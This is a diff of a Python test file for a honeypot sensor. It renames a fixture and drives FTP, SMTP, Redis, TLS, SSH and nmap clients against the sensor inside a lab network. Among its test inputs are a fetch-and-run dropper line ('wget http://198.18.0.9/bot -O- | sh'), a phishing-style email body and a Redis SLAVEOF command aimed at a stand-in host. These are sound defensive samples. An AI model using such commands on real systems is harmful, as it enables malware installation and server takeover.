@@ -13,7 +13,6 @@ import smtplib
 import socket
 import subprocess
 import time
-from collections.abc import Iterator
 from pathlib import Path
 
 import download_servers
@@ -22,18 +21,9 @@ from daemon import Honeytrap, nfq_rules
 from netns import Lab, inside
 from test_daemon import connect, payload_of
 
-READ_TIMEOUT = 5  # -r: every banner below must come well before it
+READ_TIMEOUT = 5  # -r (conftest.py's dialogue_sensor): every banner below must come well before it
 TEMPLATES = Path(__file__).resolve().parent.parent / "templates"
 
-
-@pytest.fixture
-def sensor(lab: Lab, tmp_path: Path) -> Iterator[Honeytrap]:
-    nfq_rules(lab.sensor)
-    ht = Honeytrap(lab, tmp_path / "ht",
-                   args=["-u", "nobody", "-g", "nogroup", "-l", "10", "-r", str(READ_TIMEOUT)])
-    yield ht
-    if ht.proc is not None and ht.proc.poll() is None:
-        ht.stop()
 
 
 def dialogue(record: dict[str, object]) -> dict[str, object]:
@@ -64,8 +54,8 @@ def read_until(sock: socket.socket, marker: bytes, limit: float = 10.0) -> bytes
     return data
 
 
-def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, sensor: Honeytrap) -> None:
-    sensor.start()
+def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, dialogue_sensor: Honeytrap) -> None:
+    dialogue_sensor.start()
     upload = b"#!/bin/sh\nwget http://198.18.0.9/bot -O- | sh\n" * 20
     with inside(lab.attacker), ftplib.FTP(timeout=10) as ftp:  # noqa: S321 - the client under test
         ftp.connect(lab.sensor.ip4, 21)
@@ -79,7 +69,7 @@ def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, sensor: Honeytrap) 
         ftp.quit()
     assert any(line.endswith(" welcome.msg") for line in lines), lines
     assert stored.startswith("226 ")
-    [record] = sensor.wait_records(1)
+    [record] = dialogue_sensor.wait_records(1)
     sent = payload_of(record)
     assert b"USER anonymous\r\nPASS guest@example.com\r\n" in sent and b"STOR bot.sh\r\n" in sent
     info = dialogue(record)
@@ -90,9 +80,9 @@ def test_ftplib_logs_in_lists_retrieves_and_stores(lab: Lab, sensor: Honeytrap) 
     assert {"USER", "PASS", "PASV", "LIST", "RETR", "STOR", "QUIT"} <= set(fields["commands"])
 
 
-def test_ftp_data_port_refuses_anyone_but_the_client(lab: Lab, sensor: Honeytrap) -> None:
+def test_ftp_data_port_refuses_anyone_but_the_client(lab: Lab, dialogue_sensor: Honeytrap) -> None:
     """The passive port is offered to the control connection's client only."""
-    sensor.start()
+    dialogue_sensor.start()
     with inside(lab.attacker):
         ftp = ftplib.FTP(timeout=10)  # noqa: S321 - the client under test
         ftp.connect(lab.sensor.ip4, 21)
@@ -106,8 +96,10 @@ def test_ftp_data_port_refuses_anyone_but_the_client(lab: Lab, sensor: Honeytrap
     ftp.close()
 
 
-def test_smtplib_sends_a_message_whose_body_is_recorded(lab: Lab, sensor: Honeytrap) -> None:
-    sensor.start()
+def test_smtplib_sends_a_message_whose_body_is_recorded(
+    lab: Lab, dialogue_sensor: Honeytrap
+) -> None:
+    dialogue_sensor.start()
     body = "Subject: invoice\r\n\r\nclick http://198.18.0.9/pay\r\n.dot-stuffed line\r\n"
     with inside(lab.attacker):
         client = smtplib.SMTP(lab.sensor.ip4, 25, timeout=10)
@@ -115,20 +107,22 @@ def test_smtplib_sends_a_message_whose_body_is_recorded(lab: Lab, sensor: Honeyt
         refused = client.sendmail("a@example.com", ["b@example.org"], body)
         client.quit()
     assert refused == {}
-    [record] = sensor.wait_records(1)
+    [record] = dialogue_sensor.wait_records(1)
     sent = payload_of(record)
     assert b"click http://198.18.0.9/pay\r\n..dot-stuffed line\r\n.\r\n" in sent
     assert dialogue(record)["protocol"] == "smtp"
 
 
-def test_redis_cli_ping_prints_pong_and_info_names_a_version(lab: Lab, sensor: Honeytrap) -> None:
-    sensor.start()
+def test_redis_cli_ping_prints_pong_and_info_names_a_version(
+    lab: Lab, dialogue_sensor: Honeytrap
+) -> None:
+    dialogue_sensor.start()
     assert lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "PING").strip() == "PONG"
     info = lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "INFO", "server")
     assert "redis_version:" in info
     out = lab.attacker.cmd("redis-cli", "-h", lab.sensor.ip4, "SLAVEOF", "198.18.0.9", "6379")
     assert out.strip() == "OK"
-    records = sensor.wait_records(3)
+    records = dialogue_sensor.wait_records(3)
     assert {dialogue(r)["protocol"] for r in records} == {"redis"}
 
 
@@ -175,9 +169,9 @@ plugin-logJSON = {{ logfile = "{ht.attackers_json}" }}
 
 
 def test_curl_gets_404_keep_alive_and_http_on_a_port_without_template(
-    lab: Lab, sensor: Honeytrap
+    lab: Lab, dialogue_sensor: Honeytrap
 ) -> None:
-    sensor.start()
+    dialogue_sensor.start()
     base = f"http://{lab.sensor.ip4}"
     out = lab.attacker.cmd("curl", "-s", "-o", "/dev/null", "-o", "/dev/null",
                            "-w", "%{http_code} %{num_connects}\n", f"{base}/", f"{base}/no/such")
@@ -187,7 +181,7 @@ def test_curl_gets_404_keep_alive_and_http_on_a_port_without_template(
     other = lab.attacker.cmd("curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                              f"{base}:7070/admin")
     assert other == "404"  # port 7070 has no template: detected as HTTP
-    records = by_port(sensor.wait_records(3))
+    records = by_port(dialogue_sensor.wait_records(3))
     assert dialogue(records[7070])["protocol"] == "http"
     fields = dialogue(records[7070])["fields"]
     assert isinstance(fields, dict) and fields["detected"] == "http"
@@ -195,23 +189,23 @@ def test_curl_gets_404_keep_alive_and_http_on_a_port_without_template(
 
 @pytest.mark.slow
 def test_a_silent_client_on_a_port_without_template_gets_silence(
-    lab: Lab, sensor: Honeytrap
+    lab: Lab, dialogue_sensor: Honeytrap
 ) -> None:
-    sensor.start()
+    dialogue_sensor.start()
     sock = connect(lab.attacker, lab.sensor.ip4, 7071)
     sock.settimeout(READ_TIMEOUT + 1)
     with pytest.raises(TimeoutError):
         sock.recv(100)  # no newline, after a read timeout and more
     sock.close()
-    [record] = sensor.wait_records(1)
+    [record] = dialogue_sensor.wait_records(1)
     assert dialogue(record)["protocol"] == "none"
 
 
 @pytest.mark.parametrize("port", [21, 23, 25, 110, 143])
 def test_server_speaks_first_banners_arrive_well_under_the_read_timeout(
-    lab: Lab, sensor: Honeytrap, port: int
+    lab: Lab, dialogue_sensor: Honeytrap, port: int
 ) -> None:
-    sensor.start()
+    dialogue_sensor.start()
     start = time.monotonic()
     sock = connect(lab.attacker, lab.sensor.ip4, port)
     sock.settimeout(READ_TIMEOUT)
@@ -222,9 +216,9 @@ def test_server_speaks_first_banners_arrive_well_under_the_read_timeout(
     assert elapsed < READ_TIMEOUT / 4, elapsed  # no read timeout waited for
 
 
-def test_urgent_data_stays_in_the_record(lab: Lab, sensor: Honeytrap) -> None:
+def test_urgent_data_stays_in_the_record(lab: Lab, dialogue_sensor: Honeytrap) -> None:
     """lftp's ABOR: IAC IP, then IAC DM with the DM byte urgent (RFC 959 4.1.3)."""
-    sensor.start()
+    dialogue_sensor.start()
     sock = connect(lab.attacker, lab.sensor.ip4, 21)
     read_until(sock, b"\r\n")
     sock.sendall(b"\xff\xf4\xff")
@@ -232,16 +226,16 @@ def test_urgent_data_stays_in_the_record(lab: Lab, sensor: Honeytrap) -> None:
     sock.sendall(b"ABOR\r\n")
     read_until(sock, b"\r\n")
     sock.close()
-    [record] = sensor.wait_records(1)
+    [record] = dialogue_sensor.wait_records(1)
     assert payload_of(record) == b"\xff\xf4\xff\xf2ABOR\r\n"
 
 
 def test_curl_and_openssl_speak_tls_on_443_and_on_a_port_without_template(
-    lab: Lab, sensor: Honeytrap
+    lab: Lab, dialogue_sensor: Honeytrap
 ) -> None:
     """TLS detected from the ClientHello on any port; the decrypted request is answered by the
     HTTP dialogue and recorded with the client's JA4."""
-    sensor.start()
+    dialogue_sensor.start()
     base = f"https://{lab.sensor.ip4}"
     out = lab.attacker.cmd("curl", "-sk", "-o", "/dev/null", "-w", "%{http_code}", f"{base}/")
     assert out == "200"
@@ -252,7 +246,7 @@ def test_curl_and_openssl_speak_tls_on_443_and_on_a_port_without_template(
                              "-servername", "www.example.com", "-quiet",
                              input=b"HEAD / HTTP/1.0\r\n\r\n")
     assert reply.startswith("HTTP/1.0 200 OK")
-    records = sensor.wait_records(3)
+    records = dialogue_sensor.wait_records(3)
     for record in records:
         info = dialogue(record)
         assert info["protocol"] == "tls"
@@ -267,15 +261,15 @@ def test_curl_and_openssl_speak_tls_on_443_and_on_a_port_without_template(
     assert "www.example.com" in by_sni
 
 
-def test_openssh_reaches_key_exchange_on_22(lab: Lab, sensor: Honeytrap) -> None:
-    sensor.start()
+def test_openssh_reaches_key_exchange_on_22(lab: Lab, dialogue_sensor: Honeytrap) -> None:
+    dialogue_sensor.start()
     result = subprocess.run(
         lab.attacker.argv("ssh", "-vvv", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no",
                           "-o", "UserKnownHostsFile=/dev/null", "-o", "ConnectTimeout=10",
                           f"root@{lab.sensor.ip4}", "true"),
         capture_output=True, text=True, timeout=60, check=False)
     assert "SSH2_MSG_KEXINIT received" in result.stderr, result.stderr[-2000:]
-    [record] = sensor.wait_records(1)
+    [record] = dialogue_sensor.wait_records(1)
     assert dialogue(record)["protocol"] == "ssh"
 
 
@@ -293,7 +287,7 @@ NMAP_RIGHT = {
 }
 
 
-def test_nmap_version_scan_names_the_shipped_services(lab: Lab, sensor: Honeytrap) -> None:
+def test_nmap_version_scan_names_the_shipped_services(lab: Lab, dialogue_sensor: Honeytrap) -> None:
     """nmap -sV on every shipped template's TCP port: the figure (ports, right service, product
     named, wrong) is printed; every port with a dialogue file must be named right."""
     import xml.etree.ElementTree as ET  # noqa: N817, S405 - nmap's own output
@@ -301,7 +295,7 @@ def test_nmap_version_scan_names_the_shipped_services(lab: Lab, sensor: Honeytra
     shipped = {int(p.name.split("_")[0]) for p in TEMPLATES.iterdir()
                if p.name.split(".")[0].endswith("_tcp")}
     assert shipped == set(NMAP_RIGHT)
-    sensor.start()
+    dialogue_sensor.start()
     ports = ",".join(str(port) for port in sorted(shipped))
     xml = subprocess.run(
         lab.attacker.argv("nmap", "-sV", "-Pn", "-n", "-T4", "-p", ports, "-oX", "-",
